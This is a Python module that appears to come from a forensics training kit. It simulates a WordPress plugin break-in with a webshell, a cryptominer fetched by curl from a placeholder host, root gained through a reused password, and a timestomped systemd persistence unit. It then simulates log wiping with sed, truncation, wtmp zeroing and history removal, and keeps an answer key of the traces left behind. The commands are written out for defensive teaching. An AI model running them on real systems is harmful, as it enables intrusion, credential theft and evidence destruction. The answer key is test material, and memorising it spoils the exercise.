"""The second incident, ``wiped``: in through a blog plugin, root through a reused password, then the logs wiped.

Host time (CET):

* Thursday 2026-11-19, 03:11: ``192.0.2.189`` checks the blog's WP File Manager
  6.8 and POSTs a webshell to its unauthenticated connector (it lands as
  ``wp-content/plugins/wp-file-manager/lib/files/sysinfo.php``), reads
  ``wp-config.php`` through it and downloads a cryptominer and its configuration
  from ``203.0.113.88`` into ``/var/tmp/.fontconfig/``.
* 03:19: ``198.51.100.201`` tries root's password over SSH twice (btmp), then logs
  in as ``anna`` with the blog's database password – hers too – and ``sudo -i``.
  As root it writes a systemd service that runs the miner, enables it, gives the
  unit file the times of Apache's unit (``touch -r``) and adds its SSH key to
  root's ``authorized_keys``.
* Sunday 00:00: logrotate moves the week's logs to ``.1`` – Thursday included.
* Monday 2026-11-23, 02:51: the webshell is asked whether the miner still runs;
  02:53 ``203.0.113.166`` logs in as root with the added key and wipes: the
  webshell requests are cut from the blog's current access log with ``sed -i``
  (Apache keeps writing into the replaced file, so the log ends there),
  ``auth.log`` is emptied, the two logins are zeroed in wtmp, root's history is
  linked to ``/dev/null`` and anna's deleted. He misses ``access.log.1``,
  ``auth.log.1``, btmp, lastlog, syslog and his own logout lines.
* 10:47 the provider cuts the server off for its traffic to a mining pool;
  14:05 the disk is imaged.
"""

from __future__ import annotations

import dataclasses
from pathlib import PurePosixPath

from breachkit.demo import forge
from breachkit.demo.calendar import ROTATION_SUNDAYS
from breachkit.demo.content import blobs, clock, cryptominer, file_manager, traffic, web
from breachkit.demo.content.clock import MS, local_ns
from breachkit.demo.intruder import Attack, Intruder, sha256
from breachkit.demo.rotation import LiveEdit, ZeroedRecords
from breachkit.demo.story import Dates, Story
from breachkit.demo.truth import (
    AttackerAddress,
    AttackerLogin,
    EntryPoint,
    MaliciousFile,
    Timestomp,
    Trace,
    Wipe,
)
from breachkit.demo.world import ANNA, WWW, World

WEB_IP = traffic.INTRUDER_WEB_IP
SSH_IP = traffic.INTRUDER_SSH_IP
ROOT_IP = traffic.INTRUDER_ROOT_IP
POOL = f"{traffic.MINER_HOST_IP}:3333"
#: the blog owner installed the plugin from the dashboard (WordPress unpacks it as www-data)
PLUGIN_INSTALLED = local_ns(2025, 2, 10, 20, 31, 7)
RETURN_DAY = (2026, 11, 23)

PLUGIN = f"/wp-content/plugins/{file_manager.SLUG}"
CONNECTOR_URL = f"{PLUGIN}/{file_manager.CONNECTOR}"
SHELL_URL = f"{PLUGIN}/{file_manager.UPLOADS}/sysinfo.php"
HIDDEN = "/var/tmp/.fontconfig"
MINER = f"{HIDDEN}/dbus-daemon"
CONFIG = f"{HIDDEN}/config.json"
UNIT = "/etc/systemd/system/dbus-broker-helper.service"
WANTS = "/etc/systemd/system/multi-user.target.wants/dbus-broker-helper.service"
STOMP_REFERENCE = "/usr/lib/systemd/system/apache2.service"
ACCESS_LOG = f"/var/log/apache2/{web.BLOG}_access.log"
# the exploit script's user agent, then curl for the webshell
EXPLOIT = "python-requests/2.31.0"
CURL = "curl/7.81.0"


def prepare(world: World) -> None:
    """The blog's owner installed WP File Manager 6.8 in February 2025 and never updated it."""
    tree = world.tree
    root = web.docroot(web.BLOG) + PLUGIN
    t = PLUGIN_INSTALLED + tree.ns()
    tree.mkdirs(f"{root}/{file_manager.UPLOADS}", t, WWW, WWW)
    for rel in sorted(file_manager.FILES):
        path = f"{root}/{rel}"
        tree.mkdirs(str(PurePosixPath(path).parent), t, WWW, WWW)
        tree.write(path, file_manager.FILES[rel], t + tree.small(), uid=WWW, gid=WWW)
        t += tree.small(300, 4_000)


def intrude(world: World) -> Attack:
    """Thursday: webshell, miner, anna's password, root, a service; Monday: the return as root."""
    attack = Attack()
    me = Intruder(world, attack, "wiped-attack", WEB_IP, web.BLOG)
    _webshell(world, attack, me)
    _root(world, attack, me)
    # Monday: is the miner still running? Then in as root with the key, to clean up.
    day = RETURN_DAY
    me.command(SHELL_URL, "c", me.at(2, 51, 10, day), "ps -ef | grep dbus-daemon", "checks the miner runs", 231, CURL)
    me.command(SHELL_URL, "c", me.at(2, 51, 34, day), "uptime", "checks the host was not rebooted", 70, CURL)
    me.executed()
    start, end = me.at(2, 53, 40, day), me.at(3, 4, 28, day)
    world.log.ssh_session(start, end, "root", 0, ROOT_IP, world.keys["intruder"][1])
    attack.marks.update(
        {
            "root-login": start,
            "root-logout": end,
            "sed": me.at(2, 55, 2, day),
            "truncate": me.at(2, 56, 40, day),
            "wtmp": me.at(2, 58, 15, day),
            "history": me.at(3, 0, 10, day),
            "rm": me.at(3, 0, 31, day),
        }
    )
    attack.end = end
    return attack


def _webshell(world: World, attack: Attack, me: Intruder) -> None:
    """Thursday 03:11–03:15: the plugin's connector, the webshell, the database password, the miner."""
    tree = world.tree
    rng, at = me.rng, me.at
    blog = web.docroot(web.BLOG)
    readme = file_manager.FILES["readme.txt"]
    t = at(3, 11, 40)
    attack.start = t
    me.request(t, "GET", f"{PLUGIN}/readme.txt", 200, len(readme) + 262, EXPLOIT, "checks the plugin's version")
    t = at(3, 11, 41)
    me.request(t, "GET", CONNECTOR_URL, 200, 287, EXPLOIT, "checks the connector answers without a login")
    t_post = at(3, 11, 42)
    line = me.request(
        t_post, "POST", CONNECTOR_URL, 200, 512, EXPLOIT, "uploads the webshell through the connector (cmd=upload)"
    ).line()
    shell = blog + SHELL_URL
    # PHP spooled the upload to /tmp/phpXXXXXX, then elFinder moved it into lib/files/
    born = t_post + rng.randrange(120, 380) * MS + tree.small()
    moved = born + rng.randrange(5, 30) * MS
    node = tree.write(
        shell, cryptominer.WEBSHELL, born, uid=WWW, gid=WWW, done=born + tree.small(80, 300), linked=moved
    )
    node.changes.append(moved + tree.small())
    tree.removed("/tmp", moved)
    attack.entry = EntryPoint(
        f"https://{web.BLOG}{CONNECTOR_URL}",
        "POST",
        blog + CONNECTOR_URL,
        f"WP File Manager {file_manager.VERSION} ships elFinder's example connector, which needs no login and "
        "stores any uploaded file, .php included, in the web-served lib/files/ folder (CVE-2020-25213)",
        t_post,
        me.log_path,
        line,
        shell,
    )
    attack.malicious.append(
        MaliciousFile(
            shell, "webshell", "PHP webshell: ?c= runs shell commands, f= takes file uploads", sha256(node.data), born
        )
    )

    def cmd(h: int, mi: int, s: int, command: str, purpose: str, output: int = 0) -> int:
        return me.command(SHELL_URL, "c", at(h, mi, s), command, purpose, output, CURL)

    t = at(3, 11, 58)
    me.request(t, "GET", SHELL_URL, 200, 173, CURL, "checks the webshell answers")
    cmd(3, 12, 5, "id", "who am I", 54)
    cmd(3, 12, 19, "uname -a", "system reconnaissance", 104)
    cmd(
        3,
        12,
        40,
        "cat /etc/passwd",
        "lists the accounts: thomas and anna have a shell",
        len(tree.nodes["/etc/passwd"].data),
    )
    config = f"{blog}/wp-config.php"
    t = cmd(
        3, 13, 2, "cat ../../../../../wp-config.php", "reads the blog's database password", len(tree.nodes[config].data)
    )
    tree.read(config, t + 25 * MS)
    attack.traces.append(Trace(config, "read by the attacker (atime): the database password, which is anna's too"))
    t = cmd(3, 13, 30, "ls -la /var/tmp", "looks for a writable place", 421)
    tree.read("/var/tmp", t + 30 * MS)
    t = cmd(3, 13, 48, f"mkdir {HIDDEN}", "hidden folder named like fontconfig's cache")
    tree.mkdir(HIDDEN, t + 28 * MS + tree.small(), WWW, WWW)
    attack.malicious.append(
        MaliciousFile(HIDDEN, "hidden-dir", "hidden working folder of the miner", "", tree.nodes[HIDDEN].born)
    )
    host = traffic.MINER_HOST_IP
    t = cmd(3, 14, 5, f"curl -s -o {MINER} http://{host}/xm", "downloads the miner")
    data = blobs.elf("dbus-daemon", cryptominer.miner_strings(POOL), 98_304, pie=False, static=True)
    born = t + 60 * MS + tree.small()
    tree.write(MINER, data, born, uid=WWW, gid=WWW, done=born + 1_400 * MS + tree.small())
    attack.malicious.append(
        MaliciousFile(
            MINER,
            "miner",
            f"statically linked XMRig build named like a D-Bus daemon, mining to {POOL}",
            sha256(data),
            born,
        )
    )
    t = cmd(3, 14, 31, f"curl -s -o {CONFIG} http://{host}/c.json", "downloads the miner's configuration")
    wallet = "4" + forge.secret(rng, 94)
    data = cryptominer.miner_config(POOL, wallet, "web01")
    born = t + 45 * MS + tree.small()
    tree.write(CONFIG, data, born, uid=WWW, gid=WWW)
    attack.malicious.append(
        MaliciousFile(
            CONFIG,
            "miner-config",
            f"miner configuration: pool {POOL}, no donation, 75 % of the CPUs",
            sha256(data),
            born,
        )
    )
    t = cmd(3, 14, 50, f"chmod +x {MINER}", "makes it executable")
    tree.nodes[MINER].changes.append(t + 20 * MS + tree.small())
    tree.nodes[MINER].mode = 0o755
    attack.traces.append(Trace(f"{blog}{PLUGIN}/{file_manager.UPLOADS}", "folder changed by the upload (mtime/ctime)"))
    attack.traces.append(Trace("/tmp", "folder changed by the upload's temporary file"))
    attack.traces.append(Trace("/var/tmp", "folder changed by mkdir"))


def _root(world: World, attack: Attack, me: Intruder) -> None:
    """Thursday 03:19–03:31: root's password refused, anna's accepted, sudo -i, the service, the key."""
    tree, log, at = world.tree, world.log, me.at
    log.ssh_failure(at(3, 19, 2), "root", SSH_IP, True)
    log.ssh_failure(at(3, 19, 9), "root", SSH_IP, True)
    start, end = at(3, 19, 31), at(3, 31, 10)
    tty = log.ssh_session(start, end, "anna", ANNA, SSH_IP, None)
    sudo_at = at(3, 19, 58)
    log.sudo(sudo_at, "anna", ANNA, "/home/anna", "/bin/bash", at(3, 30, 55) - sudo_at, tty)
    attack.marks.update({"anna-login": start, "anna-logout": end})
    # as root: the service that runs the miner
    t = at(3, 22, 10)
    data = cryptominer.unit(MINER, CONFIG)
    node = tree.write(UNIT, data, t, done=t + tree.small(1_000, 9_000))
    attack.malicious.append(
        MaliciousFile(
            UNIT,
            "persistence",
            f"systemd service '{cryptominer.UNIT_DESCRIPTION}' that runs the miner as root",
            sha256(data),
            node.born,
        )
    )
    t = at(3, 22, 31)
    log.sys(t + 2 * MS, "systemd[1]", "Reloading.")
    tree.read(UNIT, t + 90 * MS)
    t = at(3, 22, 44)
    tree.symlink(WANTS, UNIT, t + 8 * MS + tree.small())
    started = t + 160 * MS
    log.sys(started, "systemd[1]", f"Started dbus-broker-helper.service - {cryptominer.UNIT_DESCRIPTION}.")
    tree.read(MINER, started + 3 * MS)
    tree.read(CONFIG, started + 40 * MS)
    # the unit gets the times of Apache's, so a listing by date shows nothing new
    t = at(3, 23, 5)
    reference = tree.nodes[STOMP_REFERENCE].times()
    node.fixed_mtime, node.fixed_atime = reference.mtime_ns, reference.atime_ns
    node.reads.clear()
    touched = t + 6 * MS + tree.small()
    node.changes.append(touched)
    command = f"touch -r {STOMP_REFERENCE} {UNIT}"
    attack.timestomp = Timestomp(UNIT, reference.mtime_ns, reference.atime_ns, node.born, touched, command)
    # a key of its own for root
    t = at(3, 24, 12)
    key, fingerprint = forge.ed25519(me.rng, "root@srv-4412")
    world.keys["intruder"] = (key, fingerprint)
    keys = tree.nodes["/root/.ssh/authorized_keys"]
    keys.data += (key + "\n").encode()
    keys.mods.append(t + 5 * MS + tree.small())
    attack.persistence = [UNIT, WANTS, "/root/.ssh/authorized_keys"]
    attack.traces += [
        Trace(WANTS, "created by 'systemctl enable': starts the miner's service at boot"),
        Trace("/root/.ssh/authorized_keys", f"the attacker's key appended (SHA256:{fingerprint}): root's way back in"),
        Trace(
            "/etc/systemd/system", "folder changed when the unit was written: its mtime betrays the timestomped file"
        ),
    ]


def cover_up(world: World, attack: Attack) -> None:
    """Monday 02:55–03:00 as root: cut the access log, empty auth.log, zero wtmp, kill the histories."""
    marks = attack.marks
    tree = world.tree
    world.log_edits[ACCESS_LOG] = LiveEdit(marks["sed"], lambda line: WEB_IP not in line, new_file=True, reopened=False)
    world.log_edits["/var/log/auth.log"] = LiveEdit(
        marks["truncate"], lambda line: False, new_file=False, reopened=True
    )
    hidden = {SSH_IP, ROOT_IP}
    world.log_edits["/var/log/wtmp"] = ZeroedRecords(marks["wtmp"], lambda record: _utmp_host(record) in hidden)
    tree.delete("/root/.bash_history", marks["history"])
    tree.symlink("/root/.bash_history", "/dev/null", marks["history"] + 2 * MS + tree.small(), 0, 0)
    tree.delete("/home/anna/.bash_history", marks["rm"])
    # the lines sed cut out exist only in the answer key now
    rotated = world.rotation_at[ROTATION_SUNDAYS[-1]]
    attack.requests = [
        dataclasses.replace(r, wiped=True) if r.ip == WEB_IP and rotated < r.time_ns < marks["sed"] else r
        for r in attack.requests
    ]
    _facts(world, attack)


def _utmp_host(record: bytes) -> str:
    """``ut_host`` of a 384-byte ``struct utmp`` (after type, pid, line, id and user)."""
    return record[76:332].rstrip(b"\0").decode("utf-8", "replace")


def _facts(world: World, attack: Attack) -> None:
    """The answer key's account of the logins, the addresses, the wiping and what is lost."""
    marks = attack.marks
    access_1 = f"{ACCESS_LOG}.1"
    latest = {}
    for t, user, _uid, _tty, ip in sorted(world.log.logins):
        if t < world.dates.snapshot:
            latest[user] = (t, ip)
    anna_lastlog = latest.get("anna") == (marks["anna-login"], SSH_IP)
    attack.logins = [
        AttackerLogin(
            marks["anna-login"],
            marks["anna-logout"],
            "anna",
            SSH_IP,
            "password",
            ("/var/log/auth.log.1", *(("/var/log/lastlog",) if anna_lastlog else ())),
            ("/var/log/wtmp", "/home/anna/.bash_history"),
        ),
        AttackerLogin(
            marks["root-login"],
            marks["root-logout"],
            "root",
            ROOT_IP,
            "publickey",
            ("/var/log/lastlog", "/var/log/auth.log"),
            ("/var/log/auth.log", "/var/log/wtmp", "/root/.bash_history"),
        ),
    ]
    attack.addresses = [
        AttackerAddress(
            WEB_IP,
            "web client",
            "uploaded the webshell through the file manager's connector and sent commands through it",
            (access_1,),
        ),
        AttackerAddress(
            SSH_IP,
            "ssh login",
            "tried root's password, then logged in as anna with her reused password and became root with sudo -i",
            ("/var/log/auth.log.1", "/var/log/btmp", *(("/var/log/lastlog",) if anna_lastlog else ())),
        ),
        AttackerAddress(
            ROOT_IP,
            "ssh login",
            "logged in as root with the key added on Thursday and wiped the logs",
            ("/var/log/lastlog", "/var/log/auth.log"),
        ),
        AttackerAddress(
            traffic.MINER_HOST_IP,
            "download host and mining pool",
            "served the miner and its configuration; the miner mines to it",
            (access_1, CONFIG, MINER),
        ),
    ]
    attack.payload_url = f"http://{traffic.MINER_HOST_IP}/xm"
    attack.c2 = POOL
    attack.hidden_dirs = [HIDDEN]
    attack.exposed_credentials = [
        f"MariaDB user 'blog' (DB_PASSWORD in {web.docroot(web.BLOG)}/wp-config.php, read through the webshell)",
        "anna's login password: the same as the blog's database password, used over SSH",
        "root's SSH access: the attacker's key in /root/.ssh/authorized_keys",
    ]
    attack.wiping = [
        Wipe(
            ACCESS_LOG,
            "lines-removed",
            marks["sed"],
            f"sed -i '/{_sed_pattern(WEB_IP)}/d' {ACCESS_LOG}",
            "the webshell requests of Monday night; and, since Apache kept writing into the file sed had replaced, "
            "every request of the blog after the edit",
            survives_in=(access_1,),
            tells=(
                f"the file is a new inode born at {_when(marks['sed'])}, days after its first line",
                f"it ends at {_when(marks['sed'])} while the other sites' logs go on until the network cut",
            ),
        ),
        Wipe(
            "/var/log/auth.log",
            "truncated",
            marks["truncate"],
            ": > /var/log/auth.log",
            "everything since Sunday's rotation: the hourly cron sessions and root's login from " + ROOT_IP,
            survives_in=("/var/log/auth.log.1", "/var/log/syslog", "/var/log/lastlog"),
            tells=(
                f"auth.log starts at {_when(marks['truncate'])}, more than a day after auth.log.1 ends, "
                "while syslog kept logging the cron jobs whose sessions auth.log records",
                f"its first lines are root's logout from {ROOT_IP}",
            ),
        ),
        Wipe(
            "/var/log/wtmp",
            "records-zeroed",
            marks["wtmp"],
            f"perl -e '…' overwrites the records from {SSH_IP} and {ROOT_IP} in /var/log/wtmp with zero bytes",
            f"the login records of anna from {SSH_IP} (Thursday) and of root from {ROOT_IP} (Monday)",
            survives_in=("/var/log/auth.log.1", "/var/log/lastlog"),
            tells=(
                "records of zero bytes between real ones",
                "logins in auth.log.1 and lastlog that wtmp does not show",
            ),
        ),
        Wipe(
            "/root/.bash_history",
            "linked-to-dev-null",
            marks["history"],
            "ln -sf /dev/null /root/.bash_history",
            "root's shell history, with Thursday's commands (the unit, systemctl, touch -r, the key)",
            tells=(f"a symlink to /dev/null made at {_when(marks['history'])}",),
        ),
        Wipe(
            "/home/anna/.bash_history",
            "deleted",
            marks["rm"],
            "rm -f /home/anna/.bash_history",
            "anna's shell history, with the attacker's session of Thursday (sudo -i)",
            tells=(f"anna logged in ({', '.join(attack.logins[0].recorded_in)}) but has no history file",),
        ),
    ]
    attack.not_established = [
        "what the webshell was asked on Monday night: the requests were cut from the blog's access log "
        f"({', '.join(r.target for r in attack.requests if r.wiped)})",
        f"which requests the blog served after {_when(marks['sed'])}: Apache wrote them into the access log file "
        "that sed had replaced, and that file was deleted",
        "what root typed on Thursday and on Monday: root's history goes to /dev/null and anna's was deleted",
        f"when root's Monday session from {ROOT_IP} began, according to auth.log or wtmp: only lastlog keeps it",
    ]
    attack.traces += [
        Trace(
            "/var/log/auth.log.1", f"anna's password login from {SSH_IP}, her sudo -i and the refused root passwords"
        ),
        Trace("/var/log/btmp", f"the two refused root passwords from {SSH_IP}"),
        Trace("/var/log/lastlog", f"root's last login: Monday from {ROOT_IP}"),
        Trace("/var/log/syslog.1", "'Started dbus-broker-helper.service' on Thursday"),
        Trace("/var/log/syslog", "the systemd scope of root's Monday session"),
        Trace(access_1, "the plugin exploit, the webshell commands and both download URLs"),
        Trace("/var/log/apache2", "folder changed when sed renamed its rewritten access log into place"),
        Trace("/root", "folder changed when root's history was replaced by the symlink"),
        Trace("/home/anna", "folder changed when anna's history was deleted"),
    ]


def _when(ns: int) -> str:
    """A host wall-clock time as the answer key words it: ``Mon 2026-11-23 02:55 CET``."""
    return clock.to_local(ns).strftime("%a %Y-%m-%d %H:%M %Z")


def _sed_pattern(ip: str) -> str:
    return ip.replace(".", "\\.")


STORY = Story(
    name="wiped",
    summary=(
        "Thursday night a webshell goes in through the blog's vulnerable file-manager plugin; a reused password "
        "gives the attacker anna's account and root, and a cryptominer runs as a systemd service. Monday night the "
        "attacker returns as root and wipes: lines cut from the blog's access log, auth.log emptied, wtmp records "
        "zeroed, root's history linked to /dev/null. The rotated logs, btmp and lastlog keep what he missed."
    ),
    dates=Dates(
        attack_day=(2026, 11, 19),
        # the admins' last sessions are on Friday: nobody logs in between the wipe and the cut
        admins_until=local_ns(2026, 11, 23, 0, 0, 0),
        network_cut=local_ns(2026, 11, 23, 10, 47, 18),
        snapshot=local_ns(2026, 11, 23, 14, 5, 0),
        cache_preload=local_ns(2026, 11, 19, 2, 55, 12),
        owner_photo=local_ns(2026, 11, 22, 20, 14, 33),
        owner_photo_name="IMG_20261122_201109.jpg",
    ),
    intrude=intrude,
    prepare=prepare,
    cover_up=cover_up,
)
